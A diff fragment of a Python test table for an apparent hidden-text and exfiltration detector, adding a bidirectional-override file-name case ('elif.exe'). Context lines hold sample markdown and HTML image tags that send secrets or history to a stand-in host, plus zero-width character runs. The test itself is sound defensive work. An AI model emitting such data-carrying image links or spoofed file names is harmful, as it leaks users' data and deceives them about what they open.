@@ -54,6 +54,7 @@ def test_hidden_text_is_not_in_the_visible_view(name):
         ("![x](https://e.org/log?d=[SECRET])", "carrying_image", "warning"),
         ("[x](https://e.org/log?d=YOUR_DATA)", None, None),
         ('<img src="https://e.org/p.png?history=HISTORY">', "carrying_image", "warning"),
+        ("\u202eelif.exe\u202c", "bidirectional_override", "blocked"),
         ("x" + "\u200b\u200c" * 4 + "\u200b", "zero_width_run", "warning"),
         ("a\u200bb c\u200bd e\u200bf", "zero_width", "warning"),
     ],
